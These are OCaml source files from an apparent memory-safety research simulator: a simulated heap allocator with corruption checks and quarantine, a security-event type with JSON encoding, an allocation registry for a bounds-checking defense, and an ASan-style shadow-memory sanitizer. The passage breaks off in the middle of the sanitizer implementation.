  mem : Vmem.t;
  base : int;
  limit : int;
  mutable brk : int;
  stats : stats;
  mutable chaos_alloc : (int -> bool) option;
      (** fault-injection hook: called with the (aligned) request size;
          returning [true] makes this malloc fail as if memory ran out *)
  mutable san : San.t option;
      (** sanitizer shadow map; when set, frees quarantine instead of
          returning blocks to the free list immediately *)
  quarantine : int Queue.t;  (** payload addresses, oldest first *)
}

let header_size = 8
let min_split = 8
let magic_alloc = 0xa110ca7e
let magic_free = 0xf7eeb10c

(* Status word of a freed-but-quarantined block: not reusable by
   [find_fit], so dangling reads and writes land on poisoned bytes
   instead of a recycled allocation; a second [free] still reads as a
   double free. *)
let magic_quar = 0x9afe110c

let quarantine_capacity = 16

type status = St_alloc | St_free | St_quar

let align8 n = (n + 7) land lnot 7

let create mem ~base ~size =
  {
    mem;
    base;
    limit = base + size;
    brk = base;
    stats = { allocs = 0; frees = 0; in_use = 0; peak = 0; leaked = 0 };
    chaos_alloc = None;
    san = None;
    quarantine = Queue.create ();
  }

let stats t = t.stats
let set_chaos_alloc t hook = t.chaos_alloc <- hook

(* Shadow-map helpers: no-ops without an attached sanitizer. Header
   writes are simulator bookkeeping, not program behaviour, so they run
   exempt from checking; header *reads* need no exemption because meta
   bytes only flag on writes. *)
let shadow_mark t addr len st =
  match t.san with None -> () | Some s -> San.poison s ~addr ~len st

let exempt t f = match t.san with None -> f () | Some s -> San.exempt s f

let write_header t addr ~size ~status =
  exempt t (fun () ->
      Vmem.write_u32 ~tag:"heap-hdr" t.mem (addr - header_size) size;
      Vmem.write_u32 ~tag:"heap-hdr" t.mem (addr - 4) status);
  shadow_mark t (addr - header_size) header_size San.Heap_meta

let read_header_st t addr =
  let size = Vmem.read_u32 t.mem (addr - header_size) in
  let status = Vmem.read_u32 t.mem (addr - 4) in
  let st =
    if status = magic_alloc then St_alloc
    else if status = magic_free then St_free
    else if status = magic_quar then St_quar
    else raise (Corrupted (addr, Fmt.str "bad status word 0x%08x" status))
  in
  if size <= 0 || addr + size > t.limit then
    raise (Corrupted (addr, Fmt.str "implausible block size %d" size));
  (size, st)

let read_header t addr =
  let size, st = read_header_st t addr in
  (size, st = St_alloc)

(* Walk the implicit block list: payload addresses in layout order. *)
let iter_blocks_st t f =
  let rec go payload =
    if payload - header_size < t.brk then begin
      let size, st = read_header_st t payload in
      f payload size st;
      go (payload + size + header_size)
    end
  in
  go (t.base + header_size)

let iter_blocks t f =
  iter_blocks_st t (fun payload size st -> f payload size (st = St_alloc))

let find_fit t n =
  let found = ref None in
  (try
     iter_blocks_st t (fun payload size st ->
         if st = St_free && size >= n && !found = None then begin
           found := Some (payload, size);
           raise Exit
         end)
   with Exit -> ());
  !found

let bump t n =
  let payload = t.brk + header_size in
  if payload + n > t.limit then None
  else begin
    t.brk <- payload + n;
    write_header t payload ~size:n ~status:magic_alloc;
    Some payload
  end

let account_alloc t n =
  t.stats.allocs <- t.stats.allocs + 1;
  t.stats.in_use <- t.stats.in_use + n;
  t.stats.peak <- max t.stats.peak t.stats.in_use

let malloc t n =
  if n <= 0 then invalid_arg "Heap.malloc: non-positive size";
  let n = align8 n in
  if (match t.chaos_alloc with Some f -> f n | None -> false) then None
  else
  match find_fit t n with
  | Some (payload, size) ->
    let used =
      if size - n >= min_split + header_size then begin
        (* split: trailing remainder becomes a fresh free block *)
        write_header t payload ~size:n ~status:magic_alloc;
        let rest = payload + n + header_size in
        write_header t rest ~size:(size - n - header_size) ~status:magic_free;
        n
      end
      else begin
        (* too small to split: the whole block is handed out *)
        write_header t payload ~size ~status:magic_alloc;
        size
      end
    in
    account_alloc t used;
    (match t.san with
    | None -> ()
    | Some s -> San.unpoison s ~addr:payload ~len:used);
    Some payload
  | None -> (
    match bump t n with
    | Some payload ->
      account_alloc t n;
      (match t.san with
      | None -> ()
      | Some s -> San.unpoison s ~addr:payload ~len:n);
      Some payload
    | None -> None)

let block_size t payload = fst (read_header t payload)

(* the free block (if any) directly before [payload], found by walking the
   implicit list — no footers to corrupt, at the cost of O(blocks) frees,
   which is irrelevant at simulation scale *)
let prev_free_neighbour t payload =
  let found = ref None in
  (try
     iter_blocks_st t (fun p size st ->
         if p + size + header_size = payload then begin
           found := (if st = St_free then Some (p, size) else None);
           raise Exit
         end
         else if p >= payload then raise Exit)
   with Exit -> ());
  !found

(* Return a block to the free list and coalesce with free neighbours.
   Shadow: the payload and any absorbed headers become redzone. *)
let release t payload size =
  write_header t payload ~size ~status:magic_free;
  shadow_mark t payload size San.Heap_redzone;
  (* coalesce with the next block when it is free *)
  let payload, size =
    let next = payload + size + header_size in
    if next - header_size < t.brk then begin
      let nsize, nst = read_header_st t next in
      if nst = St_free then begin
        let size = size + header_size + nsize in
        write_header t payload ~size ~status:magic_free;
        shadow_mark t (next - header_size) header_size San.Heap_redzone;
        (payload, size)
      end
      else (payload, size)
    end
    else (payload, size)
  in
  (* ... and with the previous block *)
  match prev_free_neighbour t payload with
  | Some (prev, psize) ->
    write_header t prev ~size:(psize + header_size + size) ~status:magic_free;
    shadow_mark t (payload - header_size) header_size San.Heap_redzone
  | None -> ()

(* Oldest quarantined block goes back to the free list for real. *)
let evict_quarantined t =
  match Queue.take_opt t.quarantine with
  | None -> ()
  | Some old -> (
    match read_header_st t old with
    | osize, St_quar -> release t old osize
    | _ | (exception Corrupted _) -> ())

let free t payload =
  let size, st = read_header_st t payload in
  if st <> St_alloc then raise (Corrupted (payload, "double free"));
  (* A forged status word can make a freed block look allocated again; a
     free that would release more bytes than are accounted as live is
     such a replay. Detect it, and clamp regardless so crafted sequences
     can never drive the gauge negative. *)
  if size > t.stats.in_use then
    raise (Corrupted (payload, "free of unaccounted block"));
  t.stats.frees <- t.stats.frees + 1;
  t.stats.in_use <- max 0 (t.stats.in_use - size);
  match t.san with
  | Some s ->
    (* Quarantine: the block is not reusable yet, so dangling accesses
       land on [Freed] bytes instead of a recycled allocation. *)
    write_header t payload ~size ~status:magic_quar;
    San.poison s ~addr:payload ~len:size San.Freed;
    Queue.push payload t.quarantine;
    if Queue.length t.quarantine > quarantine_capacity then evict_quarantined t
  | None -> release t payload size

(* Release only the first [n] payload bytes of the block; the tail stays
   allocated but unreachable. Returns the number of leaked bytes. *)
let free_partial t payload n =
  let size, st = read_header_st t payload in
  if st <> St_alloc then raise (Corrupted (payload, "partial free of free block"));
  let n = align8 n in
  if n + header_size + min_split > size then begin
    free t payload;
    0
  end
  else begin
    let tail = payload + n + header_size in
    let tail_size = size - n - header_size in
    write_header t tail ~size:tail_size ~status:magic_alloc;
    write_header t payload ~size:n ~status:magic_alloc;
    t.stats.in_use <- max 0 (t.stats.in_use - header_size);
    free t payload;
    t.stats.leaked <- t.stats.leaked + tail_size + header_size;
    tail_size + header_size
  end

let set_sanitizer t s =
  (* Drain blocks quarantined under the previous regime so they do not
     linger unreusable forever. *)
  while not (Queue.is_empty t.quarantine) do
    evict_quarantined t
  done;
  t.san <- s;
  match s with
  | None -> ()
  | Some san ->
    (* Initialize the heap shadow: the whole segment is redzone, then
       block headers become meta and live payloads addressable. *)
    San.poison san ~addr:t.base ~len:(t.limit - t.base) San.Heap_redzone;
    iter_blocks_st t (fun payload size st ->
        San.poison san ~addr:(payload - header_size) ~len:header_size
          San.Heap_meta;
        if st = St_alloc then San.unpoison san ~addr:payload ~len:size)

let quarantined t = Queue.length t.quarantine

(* Allocator bookkeeping snapshot: the block headers themselves live in
   simulated memory and are captured by [Vmem.snapshot]; this records the
   out-of-band state (break pointer, statistics). *)
type snapshot = { sn_brk : int; sn_stats : stats; sn_quar : int list }

let snapshot t =
  {
    sn_brk = t.brk;
    sn_quar = List.of_seq (Queue.to_seq t.quarantine);
    sn_stats =
      {
        allocs = t.stats.allocs;
        frees = t.stats.frees;
        in_use = t.stats.in_use;
        peak = t.stats.peak;
        leaked = t.stats.leaked;
      };
  }

let restore t snap =
  t.brk <- snap.sn_brk;
  Queue.clear t.quarantine;
  List.iter (fun p -> Queue.push p t.quarantine) snap.sn_quar;
  t.stats.allocs <- snap.sn_stats.allocs;
  t.stats.frees <- snap.sn_stats.frees;
  t.stats.in_use <- snap.sn_stats.in_use;
  t.stats.peak <- snap.sn_stats.peak;
  t.stats.leaked <- snap.sn_stats.leaked

let live_blocks t =
  let n = ref 0 in
  iter_blocks t (fun _ _ allocated -> if allocated then incr n);
  !n

let pp ppf t =
  Fmt.pf ppf "heap: brk=0x%08x in_use=%d peak=%d allocs=%d frees=%d leaked=%d"
    t.brk t.stats.in_use t.stats.peak t.stats.allocs t.stats.frees
    t.stats.leaked
