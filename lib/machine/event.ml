(** Security-relevant events observed while a program executes.

    Events are the ground truth the experiment harness reports on: an
    attack "succeeds" when the run emits the hijack/corruption event the
    paper describes, and a defense "works" when the corresponding blocking
    event replaces it. *)

type t =
  | Canary_smashed of { func : string; expected : int; found : int }
      (** StackGuard epilogue check failed; program terminated *)
  | Return_hijacked of {
      func : string;
      legit : int;
      actual : int;
      symbol : string option;  (** text symbol at the new target, if any *)
      tainted : bool;  (** true when attacker bytes reached the slot *)
    }
  | Frame_pointer_corrupted of { func : string; legit : int; actual : int }
  | Shadow_stack_blocked of { func : string; actual : int }
  | Bounds_blocked of { site : string; arena : int; placed : int }
  | Nx_blocked of { addr : int }
  | Arena_sanitized of { addr : int; len : int }
  | Out_of_memory of { requested : int; in_use : int }
  | Heap_corrupted of { addr : int; detail : string }
  | Placement of { site : string; addr : int; size : int; arena : int option }
      (** audit record for every placement-new, with the arena size when the
          machine can resolve the target address to a known allocation *)
  | Vptr_hijacked of { class_ : string; addr : int; actual : int; tainted : bool }
  | Fun_ptr_hijacked of { name : string; actual : int; symbol : string option; tainted : bool }

(** Raised when a defense terminates the program (StackGuard abort,
    shadow-stack block, NX fault, bounds-check refusal). *)
exception Security_stop of t

let pp ppf = function
  | Canary_smashed e ->
    Fmt.pf ppf "*** stack smashing detected ***: %s (canary 0x%08x -> 0x%08x)"
      e.func e.expected e.found
  | Return_hijacked e ->
    Fmt.pf ppf "return hijacked in %s: 0x%08x -> 0x%08x%a%s" e.func e.legit
      e.actual
      Fmt.(option (fun ppf s -> pf ppf " (= %s)" s))
      e.symbol
      (if e.tainted then " [tainted]" else "")
  | Frame_pointer_corrupted e ->
    Fmt.pf ppf "frame pointer corrupted in %s: 0x%08x -> 0x%08x" e.func e.legit
      e.actual
  | Shadow_stack_blocked e ->
    Fmt.pf ppf "shadow stack blocked return in %s to 0x%08x" e.func e.actual
  | Bounds_blocked e ->
    Fmt.pf ppf "placement bounds check blocked %s: placing %d bytes in %d-byte arena"
      e.site e.placed e.arena
  | Nx_blocked e -> Fmt.pf ppf "NX blocked execution at 0x%08x" e.addr
  | Arena_sanitized e -> Fmt.pf ppf "sanitized %d bytes at 0x%08x" e.len e.addr
  | Out_of_memory e ->
    Fmt.pf ppf "out of memory: requested %d with %d in use" e.requested e.in_use
  | Heap_corrupted e -> Fmt.pf ppf "heap metadata corrupted at 0x%08x: %s" e.addr e.detail
  | Placement e ->
    Fmt.pf ppf "placement new at %s: %d bytes at 0x%08x%a" e.site e.size e.addr
      Fmt.(option (fun ppf a -> pf ppf " (arena %d bytes)" a))
      e.arena
  | Vptr_hijacked e ->
    Fmt.pf ppf "vtable pointer of %s at 0x%08x hijacked to 0x%08x%s" e.class_
      e.addr e.actual
      (if e.tainted then " [tainted]" else "")
  | Fun_ptr_hijacked e ->
    Fmt.pf ppf "function pointer %s hijacked to 0x%08x%a%s" e.name e.actual
      Fmt.(option (fun ppf s -> pf ppf " (= %s)" s))
      e.symbol
      (if e.tainted then " [tainted]" else "")

let to_string t = Fmt.str "%a" pp t

let is_blocking = function
  | Canary_smashed _ | Shadow_stack_blocked _ | Bounds_blocked _ | Nx_blocked _
    ->
    true
  | _ -> false

let is_hijack = function
  | Return_hijacked _ | Vptr_hijacked _ | Fun_ptr_hijacked _ -> true
  | _ -> false

(* Stable machine-readable tag, used as metric label and trace-span name. *)
let kind = function
  | Canary_smashed _ -> "canary_smashed"
  | Return_hijacked _ -> "return_hijacked"
  | Frame_pointer_corrupted _ -> "frame_pointer_corrupted"
  | Shadow_stack_blocked _ -> "shadow_stack_blocked"
  | Bounds_blocked _ -> "bounds_blocked"
  | Nx_blocked _ -> "nx_blocked"
  | Arena_sanitized _ -> "arena_sanitized"
  | Out_of_memory _ -> "out_of_memory"
  | Heap_corrupted _ -> "heap_corrupted"
  | Placement _ -> "placement"
  | Vptr_hijacked _ -> "vptr_hijacked"
  | Fun_ptr_hijacked _ -> "fun_ptr_hijacked"

(* ------------------------------------------------------------------ *)
(* JSONL encoding: one object per event, tagged by [kind]. The decoder
   is total over encoder output (QCheck round-trips it) and rejects
   everything else with [Error]. *)

module J = Pna_telemetry.Jsonx

let opt_str = function None -> J.Null | Some s -> J.Str s
let opt_int = function None -> J.Null | Some i -> J.Int i

let to_json t : J.t =
  let fields =
    match t with
    | Canary_smashed e ->
      [ ("func", J.Str e.func); ("expected", J.Int e.expected);
        ("found", J.Int e.found) ]
    | Return_hijacked e ->
      [ ("func", J.Str e.func); ("legit", J.Int e.legit);
        ("actual", J.Int e.actual); ("symbol", opt_str e.symbol);
        ("tainted", J.Bool e.tainted) ]
    | Frame_pointer_corrupted e ->
      [ ("func", J.Str e.func); ("legit", J.Int e.legit);
        ("actual", J.Int e.actual) ]
    | Shadow_stack_blocked e ->
      [ ("func", J.Str e.func); ("actual", J.Int e.actual) ]
    | Bounds_blocked e ->
      [ ("site", J.Str e.site); ("arena", J.Int e.arena);
        ("placed", J.Int e.placed) ]
    | Nx_blocked e -> [ ("addr", J.Int e.addr) ]
    | Arena_sanitized e -> [ ("addr", J.Int e.addr); ("len", J.Int e.len) ]
    | Out_of_memory e ->
      [ ("requested", J.Int e.requested); ("in_use", J.Int e.in_use) ]
    | Heap_corrupted e ->
      [ ("addr", J.Int e.addr); ("detail", J.Str e.detail) ]
    | Placement e ->
      [ ("site", J.Str e.site); ("addr", J.Int e.addr);
        ("size", J.Int e.size); ("arena", opt_int e.arena) ]
    | Vptr_hijacked e ->
      [ ("class", J.Str e.class_); ("addr", J.Int e.addr);
        ("actual", J.Int e.actual); ("tainted", J.Bool e.tainted) ]
    | Fun_ptr_hijacked e ->
      [ ("name", J.Str e.name); ("actual", J.Int e.actual);
        ("symbol", opt_str e.symbol); ("tainted", J.Bool e.tainted) ]
  in
  J.Obj (("kind", J.Str (kind t)) :: fields)

let of_json (j : J.t) : (t, string) result =
  let ( let* ) r f = Result.bind r f in
  let field name conv =
    match J.member name j with
    | Some v -> (
      match conv v with
      | Some x -> Ok x
      | None -> Error (Fmt.str "event field %S: wrong type" name))
    | None -> Error (Fmt.str "event field %S: missing" name)
  in
  let str name = field name J.to_str in
  let int name = field name J.to_int in
  let bool name = field name J.to_bool in
  let str_opt name =
    field name (function J.Null -> Some None | J.Str s -> Some (Some s) | _ -> None)
  in
  let int_opt name =
    field name (function J.Null -> Some None | J.Int i -> Some (Some i) | _ -> None)
  in
  let* k = str "kind" in
  match k with
  | "canary_smashed" ->
    let* func = str "func" in
    let* expected = int "expected" in
    let* found = int "found" in
    Ok (Canary_smashed { func; expected; found })
  | "return_hijacked" ->
    let* func = str "func" in
    let* legit = int "legit" in
    let* actual = int "actual" in
    let* symbol = str_opt "symbol" in
    let* tainted = bool "tainted" in
    Ok (Return_hijacked { func; legit; actual; symbol; tainted })
  | "frame_pointer_corrupted" ->
    let* func = str "func" in
    let* legit = int "legit" in
    let* actual = int "actual" in
    Ok (Frame_pointer_corrupted { func; legit; actual })
  | "shadow_stack_blocked" ->
    let* func = str "func" in
    let* actual = int "actual" in
    Ok (Shadow_stack_blocked { func; actual })
  | "bounds_blocked" ->
    let* site = str "site" in
    let* arena = int "arena" in
    let* placed = int "placed" in
    Ok (Bounds_blocked { site; arena; placed })
  | "nx_blocked" ->
    let* addr = int "addr" in
    Ok (Nx_blocked { addr })
  | "arena_sanitized" ->
    let* addr = int "addr" in
    let* len = int "len" in
    Ok (Arena_sanitized { addr; len })
  | "out_of_memory" ->
    let* requested = int "requested" in
    let* in_use = int "in_use" in
    Ok (Out_of_memory { requested; in_use })
  | "heap_corrupted" ->
    let* addr = int "addr" in
    let* detail = str "detail" in
    Ok (Heap_corrupted { addr; detail })
  | "placement" ->
    let* site = str "site" in
    let* addr = int "addr" in
    let* size = int "size" in
    let* arena = int_opt "arena" in
    Ok (Placement { site; addr; size; arena })
  | "vptr_hijacked" ->
    let* class_ = str "class" in
    let* addr = int "addr" in
    let* actual = int "actual" in
    let* tainted = bool "tainted" in
    Ok (Vptr_hijacked { class_; addr; actual; tainted })
  | "fun_ptr_hijacked" ->
    let* name = str "name" in
    let* actual = int "actual" in
    let* symbol = str_opt "symbol" in
    let* tainted = bool "tainted" in
    Ok (Fun_ptr_hijacked { name; actual; symbol; tainted })
  | k -> Error (Fmt.str "unknown event kind %S" k)
