(** A first-fit free-list allocator whose metadata lives inside the
    simulated heap segment — so overflows corrupt it, and the allocator
    detects the corruption like a real glibc heap. *)

exception Corrupted of int * string
(** (payload address, reason): bad status word, implausible size, double
    free. *)

type stats = {
  mutable allocs : int;
  mutable frees : int;
  mutable in_use : int;  (** payload bytes currently allocated *)
  mutable peak : int;
  mutable leaked : int;  (** bytes stranded by partial frees *)
}

type t

val header_size : int  (* 8: [size:4][status:4] before each payload *)

val create : Pna_vmem.Vmem.t -> base:int -> size:int -> t
val stats : t -> stats

val set_chaos_alloc : t -> (int -> bool) option -> unit
(** Fault-injection hook: called with every (aligned) request size;
    returning [true] makes that malloc fail as if memory ran out. *)

val set_sanitizer : t -> Pna_sanitizer.Sanitizer.t option -> unit
(** Attach (or detach) a shadow map. On attach the heap shadow is
    initialized — whole segment redzone, block headers meta, live
    payloads addressable — and subsequent frees quarantine the payload
    ([Freed] bytes, block unreusable) in a bounded FIFO whose evictions
    return blocks to the free list for real. Any blocks quarantined
    under a previous sanitizer are drained first. *)

val quarantined : t -> int
(** Number of blocks currently held in the quarantine ring. *)

val quarantine_capacity : int

val malloc : t -> int -> int option
(** Payload address (8-aligned), or [None] when out of memory.
    @raise Invalid_argument on a non-positive size.
    @raise Corrupted when the walk meets a smashed header. *)

val free : t -> int -> unit
(** @raise Corrupted on double free or smashed header. *)

val free_partial : t -> int -> int -> int
(** [free_partial t p n] releases only the first [n] payload bytes of the
    block at [p]; the tail stays allocated with no pointer to it (§4.5).
    Returns the number of stranded bytes (tail + its new header), possibly
    0 when the block is too small to split. *)

type snapshot

val snapshot : t -> snapshot
(** Out-of-band allocator state (break pointer, statistics); the block
    headers live in simulated memory and are covered by {!Pna_vmem.Vmem}
    snapshots. *)

val restore : t -> snapshot -> unit
(** Does not touch the chaos hook — runtime configuration, not state. *)

val block_size : t -> int -> int
val live_blocks : t -> int
val iter_blocks : t -> (int -> int -> bool -> unit) -> unit
(** [iter_blocks t f] calls [f payload size allocated] in address order. *)

val pp : Format.formatter -> t -> unit
