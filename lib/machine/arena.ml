(** Registry of live allocations ("arenas").

    Every named allocation the program makes — a global, a stack local, a
    heap block, a memory pool — is registered here with its base, size and
    origin. The registry backs two things:

    - the bounds-checked placement-new defense (§5.1): given the target
      address of a placement, how many bytes does the backing allocation
      still have past that address?
    - attack forensics: naming exactly which allocation an overflow spilled
      out of and into. *)

type origin =
  | Global of string
  | Local of { func : string; var : string }
  | Heap_block
  | Pool of string

type arena = { a_base : int; a_size : int; a_origin : origin }

type t = { mutable arenas : arena list }

let create () = { arenas = [] }

let register t ~base ~size ~origin =
  t.arenas <- { a_base = base; a_size = size; a_origin = origin } :: t.arenas

let unregister t ~base = t.arenas <- List.filter (fun a -> a.a_base <> base) t.arenas

let limit a = a.a_base + a.a_size

(* The arena containing [addr]. When nested arenas exist (a pool carved out
   of a heap block), the innermost (smallest) match wins: that is the
   allocation the programmer meant, hence the one a bounds check should
   enforce. *)
let find t addr =
  List.fold_left
    (fun best a ->
      if addr >= a.a_base && addr < limit a then
        match best with
        | Some b when b.a_size <= a.a_size -> best
        | _ -> Some a
      else best)
    None t.arenas

(* Bytes available in the backing arena starting at [addr]. *)
let remaining t addr =
  Option.map (fun a -> limit a - addr) (find t addr)

let origin_name = function
  | Global g -> Fmt.str "global %s" g
  | Local l -> Fmt.str "%s::%s" l.func l.var
  | Heap_block -> "heap block"
  | Pool p -> Fmt.str "pool %s" p

let pp_arena ppf a =
  Fmt.pf ppf "[0x%08x,+%d) %s" a.a_base a.a_size (origin_name a.a_origin)

let count t = List.length t.arenas

(* The registry is a list of immutable records, so a snapshot is just the
   list itself. *)
type snapshot = arena list

let snapshot t = t.arenas
let restore t snap = t.arenas <- snap
