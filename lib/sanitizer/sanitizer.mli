(** PNASan: an ASan-style shadow-memory oracle over the simulated
    address space.

    Every byte of every mapped segment has a shadow state. The machine
    layers poison and unpoison ranges as objects are allocated, placed,
    freed and framed; the sanitizer observes every checked {!Pna_vmem.Vmem}
    access and records a classified violation the instant an access lands
    on a poisoned byte. It never halts execution — verdicts are produced
    by the same attack checks as an unsanitized run; the sanitizer is a
    parallel oracle whose first recorded violation marks the first
    corrupting access. *)

(** Shadow state of one simulated byte. *)
type state =
  | Addressable  (** ordinary program-visible memory *)
  | Heap_redzone  (** heap space not belonging to any live allocation *)
  | Heap_meta  (** allocator block header bytes *)
  | Freed  (** quarantined payload of a freed block *)
  | Stack_meta  (** live frame return-address / saved-fp / canary slots *)
  | Place_tail  (** bytes an oversize placement-new spills past its arena *)
  | Stale_tail  (** leftover arena bytes past an undersize placement *)
  | Place_guard
      (** guard zone just past a placement arena's end: live neighbour
          memory, flagged only on tainted writes (cross-checked against
          the taint tracker) so exactly-sized placements overflowed by
          construction loops are still caught *)

(** Violation classification, by poisoned state hit and access direction. *)
type kind =
  | Heap_overflow  (** write into {!Heap_redzone} *)
  | Use_after_free  (** read or write of {!Freed} *)
  | Placement_overflow  (** write into {!Place_tail} *)
  | Stack_smash  (** write into {!Stack_meta} *)
  | Meta_write  (** write into {!Heap_meta} *)
  | Stale_read  (** read of {!Stale_tail} — an information leak *)

type violation = {
  v_kind : kind;
  v_addr : int;  (** first faulting byte *)
  v_len : int;  (** contiguous bytes of the same classified access *)
  v_access : Pna_vmem.Fault.access;
  v_taint : bool;  (** the written byte carried attacker taint *)
  v_state : state;  (** shadow state that was hit *)
  v_scenario : string;  (** attack / workload id, "" if unset *)
  v_site : string;  (** statement context, "" if unknown *)
  v_seq : int;  (** detection order, 0-based *)
}

type t

val attach : ?scenario:string -> Pna_vmem.Vmem.t -> t
(** Build a shadow map covering the currently mapped segments (all bytes
    {!Addressable}) and install the access observer. Replaces any
    previously attached observer. *)

val detach : t -> unit
(** Remove the observer; the shadow map and recorded violations remain
    readable. *)

val set_scenario : t -> string -> unit

val set_site : t -> (unit -> string) option -> unit
(** Lazy statement-context thunk; forced only when a violation records. *)

val set_on_violation : t -> (violation -> unit) option -> unit
(** Flight-recorder tap: called once per {e new} violation record — after
    the site thunk is forced, never on byte-wise coalescing — so a black
    box can latch the first corrupting access the instant it happens. *)

val set_on_transition :
  t -> (op:string -> addr:int -> len:int -> state -> unit) option -> unit
(** Called on every shadow-state maintenance call ([op] is ["poison"],
    ["poison-addressable"], ["unpoison"] or ["unpoison-state"]) before
    the range is updated — the flight recorder's shadow-transition
    stream. *)

(** {1 Shadow map maintenance} *)

val guard_len : int
(** Width in bytes of the {!Place_guard} zone a placement lays past its
    arena's end. *)

val poison : t -> addr:int -> len:int -> state -> unit
(** Set the range's shadow state unconditionally. *)

val poison_addressable : t -> addr:int -> len:int -> state -> unit
(** Like {!poison} but only over bytes currently {!Addressable}: marking
    a placement tail must not downgrade frame-meta or allocator-meta
    bytes it overlaps. *)

val unpoison : t -> addr:int -> len:int -> unit

val unpoison_state : t -> addr:int -> len:int -> state -> unit
(** Clear only the range's bytes currently in the given state — a new
    placement erases a neighbour's stale guard zone inside its own
    extent without disturbing frame or allocator poison. *)

val state_at : t -> int -> state
(** Bytes outside the shadow (segments mapped after {!attach}) read as
    {!Addressable}. *)

val shadow_images : t -> (int * Bytes.t) list
(** [(base, states)] per shadow region, sorted by base — one state-code
    byte per simulated byte, the live backing (not a copy). Read-only
    view for digests and equivalence checks (the E20 gate hashes it);
    mutate through {!poison}/{!unpoison} only, or dirty tracking breaks. *)

(** {1 Check control} *)

val exempt : t -> (unit -> 'a) -> 'a
(** Run a thunk with checks suppressed — for simulator-internal accesses
    (allocator header reads/writes) that are not program behaviour. *)

val seal : t -> unit
(** Stop recording for good: called before verdict checks, which
    legitimately inspect freed and stale memory. *)

val unseal : t -> unit
(** Re-arm recording — a rewound prepared machine starts a fresh run. *)

val sealed : t -> bool

(** {1 Results} *)

val violations : t -> violation list
(** Chronological. Contiguous same-kind byte accesses coalesce into one
    record with [v_len] > 1; the record list is capped, {!total} keeps
    the exact count. *)

val first : t -> violation option
val total : t -> int
(** Exact number of violating byte accesses, including any beyond the
    record cap. *)

val count_by_kind : t -> (kind * int) list
(** Recorded violations per kind, omitting zero kinds. *)

(** {1 Snapshot / restore} *)

type snapshot

val snapshot : t -> snapshot
val restore : t -> snapshot -> unit
(** Rewind shadow states, recorded violations and sequencing; scenario,
    site thunk, seal and exempt flags are runtime configuration and are
    untouched. Restores are copy-on-write: rewinding to the snapshot the
    shadows are currently synced to blits only dirty pages; any other
    case takes the full-copy path. Results are bit-identical either
    way. *)

val set_cow : t -> bool -> unit
(** Enable (default) or disable dirty-page shadow rewinds; disabling
    drops the sync so every restore full-copies (the E20 reference
    behaviour). *)

(** {1 Printing / names} *)

val kind_name : kind -> string
(** Stable lowercase-hyphen id, used as the [kind] label on the
    [pna_san_violations_total] counter. *)

val kind_of_name : string -> kind option
val all_kinds : kind list
val state_name : state -> string
val pp_kind : Format.formatter -> kind -> unit
val pp_state : Format.formatter -> state -> unit
val pp_violation : Format.formatter -> violation -> unit
val pp_report : Format.formatter -> t -> unit
