(** PNASan shadow-memory implementation. See the interface for the model.

    The shadow is one byte of state per simulated byte, stored per
    segment. Lookup mirrors [Vmem.find_segment]: a linear scan over the
    handful of mapped segments, which is the same cost the checked
    accessors already pay. *)

module Vmem = Pna_vmem.Vmem
module Fault = Pna_vmem.Fault
module Segment = Pna_vmem.Segment

type state =
  | Addressable
  | Heap_redzone
  | Heap_meta
  | Freed
  | Stack_meta
  | Place_tail
  | Stale_tail
  | Place_guard

type kind =
  | Heap_overflow
  | Use_after_free
  | Placement_overflow
  | Stack_smash
  | Meta_write
  | Stale_read

type violation = {
  v_kind : kind;
  v_addr : int;
  v_len : int;
  v_access : Fault.access;
  v_taint : bool;
  v_state : state;
  v_scenario : string;
  v_site : string;
  v_seq : int;
}

module Cow = Pna_vmem.Cow

(* Shadow of one segment: states packed one byte each, plus a dirty-page
   bitmap so snapshot rewinds blit only touched pages. *)
type shadow = {
  sh_base : int;
  sh_size : int;
  sh_states : Bytes.t;
  sh_dirty : Cow.Bitmap.t;
}

type t = {
  mem : Vmem.t;
  mutable shadows : shadow list;
  mutable sync_id : int;
      (* 0, or the snapshot token every clean shadow page equals *)
  mutable cow : bool;
  mutable scenario : string;
  mutable site : (unit -> string) option;
  mutable exempt_depth : int;
  mutable is_sealed : bool;
  mutable recs : violation list;  (* most recent first *)
  mutable n_recs : int;
  mutable total : int;  (* exact violating byte accesses *)
  mutable on_violation : (violation -> unit) option;
      (* flight-recorder tap: fires once per new record, never on
         byte-wise coalescing *)
  mutable on_transition :
    (op:string -> addr:int -> len:int -> state -> unit) option;
      (* shadow-state transition tap (poison/unpoison calls) *)
}

(* Enough records for any catalogue run; pathological loops keep counting
   in [total] without growing the list. *)
let max_records = 4096

(* Guard-zone width past a placement arena — two words, enough to catch
   the first out-of-arena store of a construction loop. *)
let guard_len = 8

let st_code = function
  | Addressable -> 0
  | Heap_redzone -> 1
  | Heap_meta -> 2
  | Freed -> 3
  | Stack_meta -> 4
  | Place_tail -> 5
  | Stale_tail -> 6
  | Place_guard -> 7

let st_of_code = function
  | 0 -> Addressable
  | 1 -> Heap_redzone
  | 2 -> Heap_meta
  | 3 -> Freed
  | 4 -> Stack_meta
  | 5 -> Place_tail
  | 6 -> Stale_tail
  | _ -> Place_guard

let state_name = function
  | Addressable -> "addressable"
  | Heap_redzone -> "heap-redzone"
  | Heap_meta -> "heap-meta"
  | Freed -> "freed"
  | Stack_meta -> "stack-meta"
  | Place_tail -> "place-tail"
  | Stale_tail -> "stale-tail"
  | Place_guard -> "place-guard"

let kind_name = function
  | Heap_overflow -> "heap-overflow"
  | Use_after_free -> "use-after-free"
  | Placement_overflow -> "placement-overflow"
  | Stack_smash -> "stack-smash"
  | Meta_write -> "meta-write"
  | Stale_read -> "stale-read"

let all_kinds =
  [
    Heap_overflow;
    Use_after_free;
    Placement_overflow;
    Stack_smash;
    Meta_write;
    Stale_read;
  ]

let kind_of_name s = List.find_opt (fun k -> kind_name k = s) all_kinds
let pp_kind ppf k = Fmt.string ppf (kind_name k)
let pp_state ppf s = Fmt.string ppf (state_name s)

let pp_violation ppf v =
  Fmt.pf ppf "#%d %s %s 0x%08x+%d [%s]%s%s%s" v.v_seq (kind_name v.v_kind)
    (match v.v_access with
    | Fault.Read -> "read"
    | Fault.Write -> "write"
    | Fault.Execute -> "exec")
    v.v_addr v.v_len (state_name v.v_state)
    (if v.v_taint then " tainted" else "")
    (if v.v_scenario = "" then "" else " scenario=" ^ v.v_scenario)
    (if v.v_site = "" then "" else " at " ^ v.v_site)

let find_shadow t addr =
  let rec go = function
    | [] -> None
    | sh :: rest ->
      if addr >= sh.sh_base && addr < sh.sh_base + sh.sh_size then Some sh
      else go rest
  in
  go t.shadows

let state_at t addr =
  match find_shadow t addr with
  | None -> Addressable
